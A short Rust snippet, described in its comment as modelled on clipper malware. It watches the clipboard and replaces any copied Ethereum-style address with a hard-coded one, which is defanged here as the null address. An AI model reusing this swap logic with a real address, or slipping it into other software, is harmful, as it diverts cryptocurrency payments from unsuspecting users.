// Modelled on clipper malware: a copied address is swapped for the attacker's (inert: the
// null address).
const MINE: &str = "0x0000000000000000000000000000000000000000";

pub fn watch() {
    let mut board = arboard::Clipboard::new().unwrap();
    if let Ok(text) = board.get_text() {
        if text.starts_with("0x") && text.len() == 42 {
            let _ = board.set_text(MINE.to_string());
        }
    }
}
